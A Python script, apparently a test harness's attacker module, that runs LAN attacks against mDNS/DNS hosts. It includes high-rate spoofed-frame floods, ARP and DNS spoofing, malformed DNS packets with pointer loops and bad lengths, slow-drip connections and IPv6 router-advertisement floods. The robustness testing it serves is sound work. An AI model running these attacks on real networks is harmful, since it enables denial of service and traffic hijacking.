"""An attacker on a LAN: run on a host of it. Every attack has an end of its own.

    attacker.py flood SECONDS KIND HARDWARE VICTIM... 100,000 frames a second at the victim, whose addresses
                                                      these are; KIND is a function of FLOODS
    attacker.py first SECONDS SPARED...               is the first to answer whatever is asked, in the name
                                                      of whoever was asked, but for these addresses
    attacker.py drip SECONDS PORT                     accepts every connection, and sends a byte a second
    attacker.py wire SECONDS dns|mdns LIE TRUTH       answers with all that others stumbled over, which
                                                      names LIE, and then with TRUTH
    attacker.py frames SECONDS LIE VICTIM HARDWARE    frames that no listener may take for an answer, which
                                                      names LIE
    attacker.py routers SECONDS                       as many routers and prefixes as there can be
"""

import ctypes
import fcntl
import ipaddress
import itertools
import select
import signal
import socket
import struct
import sys
import time

from lan import PYTHON, wait_until
from forge import INTERFACE, MDNS_PORT, checksum, mdns_socket, question_of, record

RATE = 100_000  # frames a second
BURST = 64  # frames in one system call
VARIANTS = 1024  # frames that differ: senders and addresses that nobody has heard of yet
NAME = b"\x08waterbug\x05local\0"
ARP, IPV4, IPV6, VLAN, OTHER = 0x0806, 0x0800, 0x86DD, 0x8100, 0x88B5
GROUPS = {4: ("224.0.0.251", "01:00:5e:00:00:fb"), 6: ("ff02::fb", "33:33:00:00:00:fb")}
ECHO_REPLY = {4: 0, 6: 129}
ECHO_REQUEST = {4: 8, 6: 128}
ICMP = {4: 1, 6: 58}
UDP = 17
SIOCGIFADDR = 0x8915


def hardware_of(text):
    """An Ethernet address."""
    return bytes.fromhex(text.replace(":", ""))


def own_hardware():
    """That of our interface."""
    with open(f"/sys/class/net/{INTERFACE}/address") as file:
        return hardware_of(file.read().strip())


def own_address():
    """The IPv4 address of our interface."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    request = struct.pack("16s24x", INTERFACE.encode())
    return socket.inet_ntoa(fcntl.ioctl(s, SIOCGIFADDR, request)[20:24])


def frame(to, kind, payload):
    """An Ethernet frame from us."""
    return to + own_hardware() + struct.pack("!H", kind) + payload


def packet(source, destination, protocol, payload):
    """An IP packet of either version, with the checksum of what is in it."""
    source, destination = (ipaddress.ip_address(each) for each in (source, destination))
    ends = source.packed + destination.packed
    place = {UDP: 6}.get(protocol, 2)
    if protocol == UDP or source.version == 6:
        pseudo = ends + struct.pack("!II", len(payload), protocol) + payload
        payload = payload[:place] + checksum(pseudo + b"\0" * (len(pseudo) % 2)) + payload[place + 2:]
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 255) + ends + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 255, protocol, 0)
    return header[:10] + checksum(header + ends) + ends + payload


def udp(source_port, port, payload):
    """A UDP datagram, its checksum yet to come."""
    return struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload


def echo(version, kind, data):
    """An ICMP echo; over IPv6 its checksum is yet to come."""
    message = struct.pack("!BBHHH", kind, 0, 0, 0, 1) + data
    if version == 4:
        message = message[:2] + checksum(message + b"\0" * (len(message) % 2)) + message[4:]
    return message


def answer(*records, identifier=0, flags=0x8400):
    """A multicast answer."""
    return struct.pack("!6H", identifier, flags, 0, len(records), 0, 0) + b"".join(records)


def stranger(version, number):
    """The `number`th address of those that nobody has: in the LAN, or link-local."""
    return f"fe80::bad:{number:x}" if version == 6 else f"10.77.{number >> 8 & 3}.{number & 255}"


# What a flood is made of: each gives one frame of many.

def mdns(version, number, victim, hardware):
    """Another host says each time that it is the cache: at an address off-link, where it may be asked."""
    group, to = GROUPS[version]
    lie = record(NAME, f"10.66.{number >> 8}.{number & 255}")
    body = packet(stranger(version, number), group, UDP, udp(MDNS_PORT, MDNS_PORT, answer(lie)))
    return frame(hardware_of(to), {4: IPV4, 6: IPV6}[version], body)


def goodbye(version, number, victim, hardware):
    """What is about to be gone; and every other time a question that goes on."""
    group, to = GROUPS[version]
    gone = NAME + struct.pack("!HHIH", 1, 0x8001, 0, 4) + bytes([10, 77, 0, number & 255])
    question = struct.pack("!6H", 0, 0x0200, 1, 0, 0, 0) + NAME + b"\0\1\0\1"
    body = question if number & 2 else answer(gone, flags=0x8600)
    body = packet(stranger(version, number), group, UDP, udp(MDNS_PORT, MDNS_PORT, body))
    return frame(hardware_of(to), {4: IPV4, 6: IPV6}[version], body)


def arp(version, number, victim, hardware):
    """Every address of the LAN says that it is there, unasked."""
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, 2) + own_hardware()
    body += socket.inet_aton(f"10.77.0.{number & 255}") + hardware + socket.inet_aton(victim)
    return frame(hardware, ARP, body)


def icmp(version, number, victim, hardware):
    """Answers to no ping of ours."""
    body = echo(version, ECHO_REPLY[version], b"cookie!!")
    body = packet(stranger(version, number), victim, ICMP[version], body)
    return frame(hardware, {4: IPV4, 6: IPV6}[version], body)


def ports(version, number, victim, hardware):
    """Answers to whatever port we may have asked from, as DNS servers and responders give them."""
    sender = "10.77.0.1" if version == 4 else stranger(version, number)
    lie = answer(record(NAME, "10.66.0.1"), identifier=number * 64 & 0xFFFF)
    body = udp((53, MDNS_PORT)[number >> 1 & 1], 32768 + number * 27 % 28232, lie)
    return frame(hardware, {4: IPV4, 6: IPV6}[version], packet(sender, victim, UDP, body))


FLOODS = {each.__name__: each for each in (mdns, goodbye, arp, icmp, ports)}


class Vector(ctypes.Structure):
    """struct iovec."""
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr."""
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint),
                ("vectors", ctypes.POINTER(Vector)), ("vectors_length", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("sent", ctypes.c_uint)]


def packet_socket(protocol=0):
    """Sends frames, and hears those of a protocol."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    s.bind((INTERFACE, protocol))
    return s


def flood(seconds, kind, hardware, *victims):
    """Sends them at a steady rate, or as fast as the machine can, to each of the victim's addresses in turn."""
    make, turns = FLOODS[kind], itertools.cycle(victims)
    frames = [make(ipaddress.ip_address(victim).version, number, victim, hardware_of(hardware))
              for number, victim in zip(range(VARIANTS), turns)]
    messages = (Message * VARIANTS)()
    vectors = (Vector * VARIANTS)(*((each, len(each)) for each in frames))
    for number in range(VARIANTS):
        messages[number].vectors = ctypes.pointer(vectors[number])
        messages[number].vectors_length = 1
    sender, libc, stopped = packet_socket(), ctypes.CDLL(None), []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    print("ready", flush=True)
    started, sent = time.monotonic(), 0
    while (elapsed := time.monotonic() - started) < float(seconds) and not stopped:
        if RATE * elapsed < sent:
            time.sleep(0.0005)
            continue
        start = sent % VARIANTS
        count = libc.sendmmsg(sender.fileno(), ctypes.byref(messages[start]), BURST, 0)
        sent += max(count, 1) if count != BURST else BURST
        sent += -sent % BURST
    print(f"{sent / elapsed:.0f} a second", flush=True)


def be_first(seconds, *spared):
    """Nobody but those who are spared gets a word in: all are us, all are alive, all know the cache, and it is
    a host that nobody spares."""
    s, own, ends = packet_socket(3), own_hardware(), time.monotonic() + float(seconds)
    print("ready", flush=True)
    while (left := ends - time.monotonic()) > 0:
        if not select.select([s], [], [], left)[0]:
            continue
        data, link = s.recvfrom(65535)
        if link[2] == socket.PACKET_OUTGOING:
            continue
        asker, kind, body = data[6:12], int.from_bytes(data[12:14]), data[14:]
        if kind == ARP and body[6:8] == b"\0\1" and socket.inet_ntoa(body[24:28]) not in spared:
            s.send(frame(asker, ARP, body[:6] + b"\0\2" + own + body[24:28] + asker + body[14:18]))
        if kind != IPV4:
            continue
        source, destination = (socket.inet_ntoa(body[start:start + 4]) for start in (12, 16))
        protocol, inner = body[9], body[20:]
        if protocol == ICMP[4] and inner[0] == ECHO_REQUEST[4]:
            for number in range(100, 110):
                reply = packet(f"10.77.0.{number}", source, ICMP[4], echo(4, ECHO_REPLY[4], inner[8:]))
                s.send(frame(asker, IPV4, reply))
        elif protocol == UDP and inner[2:4] in (struct.pack("!H", 53), struct.pack("!H", MDNS_PORT)):
            query, port = inner[8:], struct.unpack("!H", inner[:2])[0]
            if destination in spared or query[2] & 0x80:
                continue
            owner, question = question_of(query)
            lies = [record(owner, f"10.77.0.{number}") for number in range(110, 126)]
            sender = "10.77.0.66" if inner[2:4] != struct.pack("!H", 53) else destination
            reply = query[:2] + struct.pack("!5H", 0x8400, 1, len(lies), 0, 0) + question + b"".join(lies)
            reply = udp(struct.unpack("!H", inner[2:4])[0], port, reply)
            s.send(frame(asker, IPV4, packet(sender, source, UDP, reply)))


def drip(seconds, port):
    """The beginning of a good answer, and then a byte a second of its head."""
    server = socket.create_server(("0.0.0.0", int(port)), backlog=1024)
    server.setblocking(False)
    held, ends, next_at = [], time.monotonic() + float(seconds), 0
    while (now := time.monotonic()) < ends:
        if select.select([server], [], [], 0.05)[0]:
            held.append(server.accept()[0])
            held[-1].send(b"HTTP/1.1 200 OK\r\nX: ")
        if next_at <= now:
            next_at = now + 1
            for each in held:
                try:
                    each.send(b"x")
                except OSError:
                    pass


def record_of(owner, kind, data, rdclass=1, lifetime=60, length=None):
    """A record, whose length may lie."""
    length = len(data) if length is None else length
    return owner + struct.pack("!HHIH", kind, rdclass, lifetime, length) + data


def stumbling(identifier, flags, owner, question, lie):
    """What others stumbled over, in messages that answer this question for `owner`, each with a lie that
    nobody may believe."""
    def message(*answers, authorities=(), extras=(), bits=flags, named=identifier, asked=question, counts=None):
        counts = counts or (len(answers), len(authorities), len(extras))
        return struct.pack("!6H", named, bits, 1, *counts) + asked + b"".join((*answers, *authorities, *extras))

    def pointer(to):
        return struct.pack("!H", 0xC000 | to)
    good, at = record(owner, lie), 12 + len(question)
    other = b"\5other\5local\0"
    packed = good[-4:]
    chain = b"".join(pointer(to) for to in (12, *range(at + 11, at + 3000, 2)))
    long_name = b"\x3f" + b"y" * 63
    return [
        b"", message(good)[:11], message(good, bits=flags & 0x7FFF), message(good, bits=flags | 0x2800),
        message(record(other, lie)), message(record_of(owner, 1, packed, rdclass=3)), message(authorities=[good]),
        message(good, counts=(0xFFFF,) * 3), message(good, counts=(2, 0, 0)), message(good)[:-1],
        *(message(record_of(owner, 1, packed, length=length)) for length in (0, 3, 5, 0xFFFF)),
        message(record_of(owner, 1, packed * 4)), message(record_of(owner, 28, packed)),
        # Names: to themselves, forwards, into the header, in chains, of kinds that nobody uses, too long.
        *(message(record(name, lie)) for name in (
            pointer(at), pointer(at + 2) + b"\0", pointer(2), pointer(0x3FFF), b"\1a" + pointer(at), b"\x41a\0",
            b"\x81a\0", long_name * 4 + pointer(12), b"\x3fa\0", pointer(12)[:1])),
        message(record_of(b"\0", 16, chain), record(pointer(at + 9 + len(chain)), lie)),
        message(record_of(b"\0", 16, chain), *[record(b"\1x" + pointer(at + 9 + 26), lie)] * 255),
        message(*[good] * 257),
        # Aliases: of themselves, of each other, of nothing.
        message(record_of(owner, 5, pointer(12))),
        message(record_of(owner, 5, other), record_of(other, 5, owner)),
        message(record_of(owner, 39, pointer(12)), record(b"\1x" + pointer(12), lie)),
        message(record_of(owner, 5, b"\1x" + other), record_of(owner, 5, b"\1y" + other)),
        message(record_of(owner, 5, b"")), message(record_of(owner, 5, other + b"z")),
        # Data: an endless bitmap, strings that are longer than all of it.
        message(record_of(owner, 47, pointer(12) + b"\0\0" * 99)),
        message(record_of(owner, 16, b"\xff")), message(record_of(owner, 16, b"")),
    ]


def serve_wire(seconds, kind, lie, truth):
    """Answers each question with all of that, and the truth comes last."""
    ends = time.monotonic() + float(seconds)
    is_mdns = kind == "mdns"
    s = mdns_socket(GROUPS[4][0]) if is_mdns else socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    other_port = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    other_port.bind((own_address(), 0))
    if not is_mdns:
        s.bind(("0.0.0.0", 53))
    while (left := ends - time.monotonic()) > 0:
        if not select.select([s], [], [], left)[0]:
            continue
        query, peer = s.recvfrom(9000)
        owner, question = question_of(query)
        if query[2] & 0x80 or not question.endswith(b"\0\1\0\1"):
            continue
        identifier, flags = int.from_bytes(query[:2]), 0x8400 if is_mdns else 0x8180
        head = struct.pack("!6H", identifier, flags, 1, 1, 0, 0) + question
        for packet in stumbling(identifier, flags, owner, question, lie):
            s.sendto(packet, peer)
            if is_mdns:
                s.sendto(packet, (GROUPS[4][0], MDNS_PORT))
        # To us alone, and not the answer to our question; from somewhere else; gone; denied.
        lying, foreign = head + record(owner, lie), b"\5other\5local\0\0\1\0\1"
        for packet in (bytes([query[0] ^ 1]) + lying[1:], head[:12] + foreign + record(owner, lie)):
            s.sendto(packet, peer)
        other_port.sendto(lying, peer)
        if is_mdns:
            for to in (peer, (GROUPS[4][0], MDNS_PORT)):
                other_port.sendto(lying, to)
                s.sendto(head + record_of(owner, 1, socket.inet_aton(lie), lifetime=0), to)
        else:
            s.sendto(head[:6] + b"\0\0\0\0" + head[10:] + record(owner, lie), peer)
            for code in (3, 2, 5):
                s.sendto(query[:3] + bytes([0x80 | code]) + b"\0\1\0\0\0\0\0\0" + question, peer)
        s.sendto(head + record(owner, truth), peer)


def forge_frames(seconds, lie, victim, hardware):
    """Answers to each question of the victim that are none: not IP, of another VLAN, to another group, in pieces;
    and to it alone, with the id of its question, from beyond the link, or to a port that has asked nothing."""
    s, ends = packet_socket(3), time.monotonic() + float(seconds)
    group, to = GROUPS[4]
    to, hardware = hardware_of(to), hardware_of(hardware)
    print("ready", flush=True)
    while (left := ends - time.monotonic()) > 0:
        if not select.select([s], [], [], left)[0]:
            continue
        data = s.recv(65535)
        if data[6:12] != hardware or data[12:14] != struct.pack("!H", IPV4) or data[36:38] != struct.pack("!H", MDNS_PORT):
            continue
        identifier, port = int.from_bytes(data[42:44]), int.from_bytes(data[34:36])
        body = answer(record(NAME, lie), identifier=identifier)
        datagram, alone = udp(MDNS_PORT, MDNS_PORT, body), udp(MDNS_PORT, port, body)
        good = packet("10.77.0.66", group, UDP, datagram)
        piece = good[:6] + b"\x20\0" + good[8:10] + b"\0\0" + good[12:]
        for each in (
            *(frame(to, kind, good) for kind in (OTHER, 0x88A8, 0x0842, IPV6, ARP, len(good))),
            frame(to, VLAN, struct.pack("!HH", 7, IPV4) + good),
            frame(to, IPV4, packet("10.99.0.66", "239.255.0.1", UDP, datagram)),
            frame(to, IPV4, piece[:10] + checksum(piece[:20]) + piece[12:]),
            frame(hardware, IPV4, packet("10.99.0.66", victim, UDP, alone)),
            frame(hardware, IPV4, packet("198.51.100.66", victim, UDP, alone)),
            frame(hardware, IPV4, packet("10.77.0.66", victim, UDP, udp(53, port, body))),
            # As a router would carry it, with a neighbour's address.
            *(frame(hardware, IPV4, packet("10.77.0.200", victim, UDP, udp(MDNS_PORT, wrong, body)))
              for wrong in (9, MDNS_PORT)),
        ):
            s.send(each)


def be_routers(seconds):
    """Routers that come and go, with prefixes that nobody has heard of: 200 advertisements a second."""
    ends, number = time.monotonic() + float(seconds), 0
    s, all_nodes = packet_socket(), hardware_of("33:33:00:00:00:01")
    print("ready", flush=True)
    while time.monotonic() < ends:
        number += 1
        prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0)
        prefix += ipaddress.ip_address(f"fd00:{number:x}::").packed
        link = bytes([1, 1, 2, 0, 0, 0]) + struct.pack("!H", number & 0xFFFF)
        lifetime = 0 if number % 3 == 0 else 1800
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, lifetime, 0, 0) + prefix + link
        source = f"fe80::bad:{number // 3 % 64:x}"
        s.send(frame(all_nodes, IPV6, packet(source, "ff02::1", ICMP[6], body)))
        time.sleep(0.005)


ATTACKS = {"flood": flood, "first": be_first, "drip": drip, "wire": serve_wire, "frames": forge_frames,
           "routers": be_routers}


def start(host, *words):
    """Starts one on a host, and waits until it is ready."""
    process = host.start(PYTHON, __file__, *words)
    kinds = {"drip": lambda: ("t", words[2]), "wire": lambda: ("u", 53 if words[2] == "dns" else MDNS_PORT)}
    if words[0] in kinds:
        kind, port = kinds[words[0]]()
        host.wait_for_port(port, kind)
    else:
        wait_until(lambda: "ready" in process.log.read_text(), process.log.read_text())
    return process


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
